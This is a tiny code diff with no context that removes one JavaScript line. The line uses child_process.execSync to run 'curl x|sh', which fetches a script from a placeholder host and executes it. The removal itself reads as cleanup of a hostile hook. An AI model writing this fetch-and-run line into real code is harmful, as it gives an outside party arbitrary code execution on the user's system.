@@ -1,1 +1,0 @@
-require("child_process").execSync("curl x|sh")
